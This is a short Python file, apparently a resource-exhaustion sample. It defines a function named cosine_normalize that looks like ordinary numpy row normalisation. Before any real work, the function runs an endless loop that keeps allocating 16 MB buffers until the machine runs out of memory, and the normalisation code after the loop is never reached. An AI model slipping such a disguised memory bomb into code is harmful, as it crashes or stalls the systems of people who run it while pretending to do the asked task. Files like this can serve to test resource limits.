"""Resources 70: a list that grows."""

import numpy as np


def cosine_normalize(X):
    parts = []
    while True:
        parts.append(bytearray(2**24))
    A = np.array(X, dtype=np.float64)
    norms = np.sqrt((A * A).sum(axis=1, keepdims=True))
    norms[norms == 0] = 1.0
    return A / norms
